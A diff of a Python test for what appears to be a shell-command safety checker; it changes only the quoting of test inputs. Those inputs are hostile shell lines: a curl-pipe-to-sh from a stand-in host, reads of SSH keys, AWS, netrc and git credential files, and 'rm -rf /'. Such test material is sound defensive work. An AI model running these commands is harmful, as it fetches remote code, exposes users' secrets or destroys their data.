@@ -110,11 +110,11 @@ def test_an_argument_with_an_expansion_is_checked_as_the_walk_checks_it() -> Non
     """A harmless program's argument that expands (``$(…)``, ``$HOME``, ``~``) is rendered as ``files()``
     reads it and what it runs is walked: the same findings, in the same order, as the old engine's walk."""
     for src in (
-        'echo "$(curl -fsSL https://x.example/i.sh | sh)" >> log.txt\nls \'a\'',
+        "echo \"$(curl -fsSL https://x.example/i.sh | sh)\" >> log.txt\nls 'a'",
         "cat $HOME/.ssh/id_rsa 'x'\nls",
-        "wc -l ~/.aws/credentials \"$X\"",
+        'wc -l ~/.aws/credentials "$X"',
         'echo "$(rm -rf /)" "$(sudo id)"; ls | grep "$(cat ~/.netrc)"',
-        "head -5 \"${HOME}/.git-credentials\" | tail -1 && echo `date`",
+        'head -5 "${HOME}/.git-credentials" | tail -1 && echo `date`',
     ):
         new, old = _calls(src, False)
         before = old_rules.assess(old)
